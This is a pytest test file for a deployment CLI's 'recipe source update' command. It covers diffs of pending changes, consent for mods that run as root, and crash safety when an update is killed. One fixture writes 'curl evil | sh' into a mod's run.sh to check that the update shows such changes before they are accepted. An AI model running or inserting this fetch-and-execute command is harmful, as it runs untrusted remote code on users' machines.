"""Updates of sources: all that changes is shown, and one that is killed leaves a whole source."""

from __future__ import annotations

import json
import os
import re
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from sparkdeploy.settings import load_settings
from sparkdeploy.terminal.console import console
from tests.unit.authoring.sources import THEIRS, commit, recipe, run_git, write
from tests.unit.program import Run


def pending(run: Run) -> str:
    done = run("recipe", "source", "update", "birds")
    assert done.returncode == 9, done.stderr
    return done.stderr


def test_pending_changes_end_with_their_own_code(
    run: Run, birds: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (birds / "recipes/four/owl.yaml").unlink()
    changed = {"recipes/owl.yaml": recipe("owl", tokens=2048), "recipes/new.yaml": recipe("new")}
    commit(birds, changed)
    done = run("recipe", "source", "update", "--json")
    assert done.returncode == 9
    assert [change["state"] for change in json.loads(done.stdout)] == ["pending"]
    assert "recipe source update birds --yes" in done.stderr
    for line in ("recipes/owl", "create mode 100644 recipes/new", "delete mode 100644 recipes/fo"):
        assert line in done.stderr
    assert "birds stays at" in run("recipe", "source", "update").stdout
    assert run.answer("show", "birds/recipes/owl", "--json")["serve"]["max_model_len"] == 4096
    monkeypatch.setattr(type(console), "can_ask", True)
    monkeypatch.setattr(type(console), "confirm", lambda *_: False)
    assert run("recipe", "source", "update").returncode == 0
    assert [item["state"] for item in run.answer("recipe", "source", "update", "-y", "--json")] == [
        "taken"
    ]
    assert run.answer("show", "birds/owl", "--json")["serve"]["max_model_len"] == 2048
    done = run("recipe", "source", "update")
    assert (done.returncode, done.stdout[:21]) == (0, "birds is up to date (")


def test_a_mods_file_is_shown_also_under_a_name_of_ours_or_with_another_mode(
    run: Run, birds: Path
) -> None:
    mod = birds / "mods/fix-owl"
    write(mod, {"hélp.sh": "a\n", "sub/.sparkdeploy-source": "echo hidden\n"})
    (mod / "run.sh").chmod(0o755)
    (mod / "run.sh").write_text("cp owl.jinja $WORKSPACE_DIR/\ncurl evil | sh\n")
    commit(birds, {})
    said = pending(run)
    assert "mods/fix-owl/sub" not in said
    assert "1 x a name of ours" in said
    assert re.search(r"^  mods/fix-owl/hélp.sh +\| +1 \+$", said, re.MULTILINE), said
    assert re.search(r"^  mods/fix-owl/run.sh +\| +\d \+", said, re.MULTILINE), said
    assert "  mode change 100644 => 100755 mods/fix-owl/run.sh\n" in said
    assert "  create mode 100644 mods/fix-owl/hélp.sh\n" in said
    assert "  2 files changed, " in said


def test_new_consents_come_first_and_whole(run: Run, birds: Path) -> None:
    folder = "x" * 150
    changed = THEIRS.replace("[mods/fix-owl]", f"[mods/fix-owl, mods/{folder}/y, mods/z]")
    write(birds, {f"mods/{folder}/y/run.sh": "true\n", "mods/z/run.sh": "true\n"})
    commit(birds, {"recipes/theirs.yaml": changed})
    lines = pending(run).splitlines()
    at = next(at for at, line in enumerate(lines) if " -> " in line)
    new = lines[at + 1 : at + 3]
    assert all(line.startswith("  + consent: recipes/theirs.yaml: mods: ") for line in new)
    assert any(f"mods/{folder}/y: a mod runs as root" in line for line in new)
    run("recipe", "source", "update", "-y")
    commit(birds, {"recipes/theirs.yaml": THEIRS})
    assert "  - consent: recipes/theirs.yaml: mods: " in pending(run)


KILLED = """\
import os, signal, sys
from pathlib import Path
from sparkdeploy import __version__
from sparkdeploy.checkpoint import durable
rename = Path.rename
def last(path, target):
    rename(path, target)
    os.kill(os.getpid(), signal.SIGKILL)
Path.rename = last
if sys.argv[1] == "no exchange":
    durable._exchange = lambda *_: False
durable.shutil.rmtree = lambda *_, **__: os.kill(os.getpid(), signal.SIGKILL)
sys.argv[1:] = ["recipe", "source", "update", "birds", "--yes"]
from sparkdeploy.cli.main import main
main()
"""


@pytest.mark.outside
@pytest.mark.parametrize("how", ["exchange", "no exchange"])
def test_an_update_that_is_killed_leaves_the_source(
    run: Run, birds: Path, how: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    commit(birds, {"recipes/new.yaml": recipe("new")})
    killed = subprocess.run([sys.executable, "-c", KILLED, how], capture_output=True, check=False)
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    assert [item["name"] for item in run.answer("recipe", "source", "ls", "--json")] == ["birds"]
    assert run("show", "birds/recipes/owl").returncode == 0
    assert run("recipe", "source", "update", "birds", "-y").returncode == 0
    assert run("show", "birds/new").returncode == 0
    folder = load_settings().state_dir / "sources/birds"
    assert [path.name for path in folder.iterdir()] == ["taken"]


def test_a_part_of_a_commit_is_that_commit_whatever_a_branch_is_called_later(
    run: Run, origin: Path
) -> None:
    first = run_git(origin, "rev-parse", "HEAD")
    assert run("recipe", "source", "add", "birds", str(origin), "--at", first[:9]).returncode == 0
    commit(origin, {"recipes/new.yaml": recipe("new")})
    run_git(origin, "branch", first[:9])
    assert "up to date" in run("recipe", "source", "update", "-y").stdout
    (row,) = run.answer("recipe", "source", "ls", "--json")
    assert (row["ref"], row["commit"]) == (first, first)
    done = run("recipe", "source", "add", "head", str(origin), "--at", "FETCH_HEAD")
    assert done.returncode == 2


def test_the_index_is_durable(run: Run, origin: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    synced = []
    monkeypatch.setattr(
        os, "fsync", lambda number: synced.append(str(Path(f"/proc/self/fd/{number}").readlink()))
    )
    run("recipe", "source", "add", "birds", str(origin))
    assert any(".sparkdeploy-source" in name for name in synced)


def test_a_source_that_is_gone_keeps_no_other_from_its_update(run: Run, birds: Path) -> None:
    bees = birds.with_name("bees")
    run_git(birds, "clone", "--quiet", ".", str(bees))
    run("recipe", "source", "add", "bees", str(bees))
    bees.rename(bees.with_name("gone"))
    commit(birds, {"recipes/new.yaml": recipe("new")})
    done = run("recipe", "source", "update", "--yes")
    assert done.returncode == 4
    assert "birds is at " in done.stdout
    assert f"source bees: {bees} is no folder" in done.stderr
